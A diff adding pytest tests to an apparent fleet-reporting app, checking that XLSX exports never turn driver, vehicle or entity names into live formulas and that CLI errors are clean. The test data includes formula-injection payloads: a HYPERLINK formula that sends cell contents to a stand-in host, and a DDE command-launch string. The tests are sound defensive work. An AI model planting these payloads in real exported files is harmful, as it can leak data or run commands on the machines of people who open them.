@@ -176,3 +176,32 @@ def test_cli_report(client, acme, xss, database_url, tmp_path):
     assert r.returncode == 2 and "renderMode" in r.stderr
     r = cli("rebuild-rollups", "--customer", cid, env=env)
     assert r.returncode == 0 and '"etape_part_days"' in r.stdout
+
+
+def test_xlsx_names_are_text_never_formulas(client, acme, db):
+    """A name starting with `=` (a driver's, a vehicle's, an entity's) is a text cell, not a live formula."""
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
+    with db.session() as s:
+        f = Fleet(s, acme["t"].customer_id)
+        entity = f.entity("+cmd|' /C calc'!A0")
+        who = f.individu(formula, entity, prenom="")
+        vehicle = f.vehicle("=1+2", entity)
+        f.step(vehicle, who, ms("2026-01-12T10:00:00+01:00"), ms("2026-01-12T11:00:00+01:00"), distance_m=1_000.0)
+    for mode in ("BY_DRIVER_WITH_HORAIRE_SYNTHESIS", "BY_VEHICLE_WITH_HORAIRE_DETAIL"):
+        r = analyse(client, acme["h"], mode, *JAN, params={"format": "xlsx"})
+        sheet = load_workbook(io.BytesIO(r.content)).active
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], mode
+        texts = {c.value.strip() for c in cells if isinstance(c.value, str)}
+        assert formula in texts and "=1+2" in texts, mode
+
+
+def test_cli_report_bad_bounds_and_unwritable_out_are_errors_not_tracebacks(acme, database_url, tmp_path):
+    env = {**os.environ, "FLEETPRIVACY_DATABASE_URL": database_url}
+    cid = str(acme["t"].customer_id)
+    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "9999-12-31", env=env)
+    assert r.returncode == 2 and "--to" in r.stderr and "Traceback" not in r.stderr, r.stderr
+    missing = tmp_path / "no" / "such" / "dir" / "report.csv"
+    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", "--format", "csv",
+            "--out", str(missing), env=env)
+    assert r.returncode == 2 and "--out" in r.stderr and "Traceback" not in r.stderr, r.stderr
